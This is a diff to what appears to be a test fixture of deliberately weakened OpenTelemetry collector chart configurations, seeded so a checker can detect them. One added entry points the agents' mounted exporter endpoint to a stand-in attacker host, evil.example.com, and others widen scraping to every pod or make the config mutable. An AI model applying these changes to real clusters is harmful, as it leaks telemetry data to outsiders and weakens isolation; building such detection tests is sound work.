@@ -1,11 +1,14 @@
 /** Collectors that lose data or take more than they hold, and values of their charts. */
-import { AGENT, CONFIG, GATEWAY, object, SAMPLER, set } from "../draft";
+import { AGENT, CONFIG, GATEWAY, object, SAMPLER, set, text } from "../draft";
 import type { Weakening, Weakenings } from "../draft";
 
 const agent = (path: string, value: unknown): Weakening[1] => set(AGENT, `${CONFIG}/${path}`, value);
 const gateway = (path: string, value: unknown): Weakening[1] => set(GATEWAY, `${CONFIG}/${path}`, value);
 const sampler = (path: string, value: unknown): Weakening[1] => set(SAMPLER, `${CONFIG}/${path}`, value);
 const value = (path: string, content: unknown): Weakening[1] => set(AGENT, `values/${path}`, content);
+
+/** What the agents' pods mount. */
+const MOUNTED = "ConfigMap/otel-configuration";
 
 export const PIPELINES: Weakenings = {
   "sampler-discovers": [
@@ -134,6 +137,16 @@ export const PIPELINES: Weakenings = {
     set(GATEWAY, "values/networkPolicy", { enabled: true, allowIngressFrom: [{}] }),
   ],
   "existing-configmap": ["a configuration that nobody sees", value("configMap", { create: false, existingName: "x" })],
+  "another-configmap": ["the same, under a good name", value("configMap/existingName", "otel-agent-0123456789abcdef")],
+  "mounted-selector": [
+    "the file that agents read watches every pod",
+    text(MOUNTED, "relay", "receivers/prometheus/config/scrape_configs/0/kubernetes_sd_configs/0/selectors", []),
+  ],
+  "mounted-exporter": [
+    "the file that agents read sends elsewhere",
+    text(MOUNTED, "relay", "exporters/durable_remote_write/endpoint", "https://evil.example.com"),
+  ],
+  "mounted-mutable": ["the file changes under agents that run", set(MOUNTED, "immutable", false)],
   "config-merged": [
     "the chart's defaults come back",
     value("config", { receivers: { zipkin: { endpoint: "0.0.0.0:9411" } } }),
